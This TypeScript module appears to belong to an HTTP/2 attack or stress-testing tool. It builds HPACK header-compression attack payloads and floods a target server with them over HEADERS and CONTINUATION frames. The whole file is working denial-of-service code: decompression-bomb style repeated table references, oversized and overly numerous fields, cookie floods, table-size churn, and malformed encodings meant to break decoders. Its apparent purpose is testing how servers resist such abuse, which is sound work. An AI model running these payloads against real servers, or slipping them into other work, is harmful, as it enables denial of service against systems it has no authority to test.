// Attacks on header compression and on what a head may hold.
import type { AttackReport, AttackTarget } from "./attacker.ts";
import { block, END_HEADERS, END_STREAM, type Field, frame, integer, request, TYPE } from "./raw-frames.ts";
import { again, flood } from "./raw-h2.ts";

type Make = (i: number) => readonly Uint8Array[];

const GET = request("GET", "/never");
const head = block(GET);
const fields = (count: number, name: (i: number) => string, value: string): Buffer =>
  block(Array.from({ length: count }, (_, i): Field => [name(i), value]));
/** Enters `value` into the table of the connection. */
const enter = (name: string, value: string): Buffer => block([[name, value]], 0x40);
/** A value whose octets are Huffman codes: each `pattern` octet as it is. */
const huffman = (name: string, bytes: number, octet: number): Buffer =>
  Buffer.concat([
    Buffer.from([0]),
    integer(name.length, 7),
    Buffer.from(name),
    integer(bytes, 7, 0x80),
    Buffer.alloc(bytes, octet),
  ]);
/** Size 0 and size 4096, many times. */
const resizes = Buffer.concat(
  Array.from({ length: 2000 }, () => Buffer.concat([integer(0, 5, 0x20), integer(4096, 5, 0x20)])),
);

const BLOCKS: Readonly<Record<string, Make>> = {
  // One entry of nearly 4 KiB, and an octet for each time that it is meant.
  "a large field by index, thousands of times": () => [head, enter("x", "b".repeat(4000)), Buffer.alloc(100_000, 0xbe)],
  "a small field by index, thousands of times": () => [head, enter("x", "b"), Buffer.alloc(100_000, 0xbe)],
  "one field that is too long": () => [head, fields(1, () => "x-long", "v".repeat(61 * 1024))],
  "one name that is too long": () => [head, fields(1, () => "x".repeat(61 * 1024), "v")],
  "too many fields": () => [head, fields(101, (i) => `x-${i}`, "v")],
  "too many cookie crumbs": () => [head, fields(4000, () => "cookie", "a=b")],
  "a value of Huffman codes that grows above the limit": () => [head, huffman("x", 50_000, 0x18)],
  "new names all the time": (i) => [head, fields(2000, (n) => `n${i}-${n}`, "")],
  "a table that changes its size in each block": () => [resizes, head, fields(101, (i) => `x-${i}`, "v")],
  "new entries all the time": (i) => [
    head,
    ...Array.from({ length: 200 }, (_, n) => enter(`e${i}-${n}`, "v".repeat(64))),
  ],
};

/** Blocks that no HPACK decoder takes: the connection cannot go on. */
const BROKEN: Readonly<Record<string, Make>> = {
  "an index that does not exist": () => [head, integer(500, 7, 0x80)],
  "an integer without end": () => [head, Buffer.from([0xff]), Buffer.alloc(500, 0xff)],
  "an integer of 32 bits": () => [head, integer(0xffffffff, 7, 0x80)],
  "a string longer than the block": () => [head, Buffer.from([0, 1, 0x78]), integer(0x0ffffff0, 7)],
  "Huffman codes of the end of string": () => [head, huffman("x", 1000, 0xff)],
  "a table above what was allowed": () => [integer(1 << 24, 5, 0x20), head],
  "a table size in the middle of a block": () => [head, integer(0, 5, 0x20), head],
};

export const blocks: readonly string[] = Object.keys(BLOCKS);
export const brokenBlocks: readonly string[] = Object.keys(BROKEN);

/** The block that `args.kind` names, on one stream after another. */
export function heads(target: AttackTarget): Promise<AttackReport> {
  const kind = String(target.args["kind"]);
  const make = BLOCKS[kind] ?? BROKEN[kind];
  if (make === undefined) throw new Error(`no such block: ${kind}`);
  return again(target, {}, (peer, _tally, isTimeUp) =>
    flood(peer, isTimeUp, (i) => inFrames(i * 2 + 1, Buffer.concat(make(i)))),
  );
}

/** HEADERS and as many CONTINUATIONs as it takes. */
function inFrames(id: number, bytes: Buffer): Buffer {
  const pieces: Buffer[] = [];
  for (let from = 0; from === 0 || from < bytes.length; from += 16_384) {
    const isLast = from + 16_384 >= bytes.length;
    const flags = (isLast ? END_HEADERS : 0) | (from === 0 ? END_STREAM : 0);
    pieces.push(frame(from === 0 ? TYPE.HEADERS : TYPE.CONTINUATION, flags, id, bytes.subarray(from, from + 16_384)));
  }
  return Buffer.concat(pieces);
}
